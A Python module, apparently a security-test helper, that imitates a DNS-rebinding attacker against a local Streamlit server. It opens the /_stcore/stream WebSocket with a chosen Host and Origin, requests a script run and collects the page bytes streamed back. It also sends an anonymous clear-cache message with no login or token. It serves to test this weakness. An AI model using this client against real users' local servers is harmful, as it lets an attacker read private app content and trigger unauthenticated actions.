"""A raw Streamlit WebSocket client, as an attacker's page would use one after DNS rebinding: it connects
to a local Streamlit server while naming any ``Host`` it likes, asks for a script run, and returns the raw
bytes of every message the server streams back (the page's text is in them, as protobuf strings)."""

from __future__ import annotations

import socket
import time


class Refused(Exception):
    """The server closed or refused the WebSocket before any page data came."""


def read_page(port: int, host: str, *, seconds: float = 15.0, until: bytes | None = None) -> bytes:
    """Open ``/_stcore/stream`` on 127.0.0.1:``port`` with ``Host: host`` (and a same-origin ``Origin``, as a
    rebound page sends), request a run, and collect the messages until the run finishes, ``until`` is seen
    or ``seconds`` pass."""
    from streamlit.proto.BackMsg_pb2 import BackMsg
    from websockets.exceptions import ConnectionClosed, InvalidStatus
    from websockets.sync.client import connect

    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    try:
        ws = connect(f"ws://{host}/_stcore/stream", sock=sock, subprotocols=["streamlit"],
                     origin=f"http://{host}", open_timeout=10, max_size=None)
    except (InvalidStatus, ConnectionClosed, OSError) as exc:
        sock.close()
        raise Refused(str(exc)) from None
    data = b""
    with ws:
        msg = BackMsg()
        msg.rerun_script.query_string = ""
        msg.rerun_script.page_script_hash = ""
        try:
            ws.send(msg.SerializeToString())
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline and not (until and until in data):
                try:
                    frame = ws.recv(timeout=max(0.1, deadline - time.monotonic()))
                except TimeoutError:
                    break
                data += frame if isinstance(frame, bytes) else frame.encode()
                if _finished(frame):  # the script run is over: everything this session gets has come
                    break
        except ConnectionClosed as exc:
            if not data:
                raise Refused(f"closed: {exc}") from None
    return data


def _finished(frame: bytes | str) -> bool:
    from google.protobuf.message import DecodeError
    from streamlit.proto.ForwardMsg_pb2 import ForwardMsg

    if not isinstance(frame, bytes):
        return False
    try:
        return ForwardMsg.FromString(frame).WhichOneof("type") == "script_finished"
    except DecodeError:  # not one ForwardMsg: keep reading
        return False


def clear_caches(port: int, host: str | None = None) -> None:
    """Send Streamlit's "clear caches" message as an anonymous client (no login, no token), as the
    developer menu would; the server handles it before any script runs."""
    from streamlit.proto.BackMsg_pb2 import BackMsg
    from websockets.sync.client import connect

    host = host or f"127.0.0.1:{port}"
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    with connect(f"ws://{host}/_stcore/stream", sock=sock, subprotocols=["streamlit"], open_timeout=10) as ws:
        msg = BackMsg()
        msg.clear_cache = True
        ws.send(msg.SerializeToString())
        time.sleep(1.0)  # let the server act on it before the socket closes
